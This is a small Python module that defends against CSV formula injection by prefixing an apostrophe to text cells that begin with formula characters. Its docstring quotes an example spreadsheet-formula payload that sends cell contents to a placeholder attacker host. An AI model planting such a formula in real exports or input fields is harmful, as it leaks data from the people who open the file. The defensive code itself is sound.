"""CSV exports a spreadsheet can open safely: a cell that starts like a formula is shown as text, not run.

A camera's name or a person's name is typed by someone else: `=HYPERLINK("http://evil/?"&A1, "open")` in an
event's source ran in the admin's spreadsheet (OWASP's CSV injection). Such cells get a leading apostrophe,
which spreadsheets take as "this is text" and do not show.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")  # (and full-width)


def safe_cell(value):
    """A text cell that a spreadsheet would read as a formula, as text; numbers and everything else unchanged."""
    if isinstance(value, str) and value.startswith(_FORMULA_START):
        return "'" + value
    return value


def csv_document(header: Iterable[str], rows: Iterable[Iterable]) -> str:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(header)
    for row in rows:
        writer.writerow([safe_cell(v) for v in row])
    return out.getvalue()
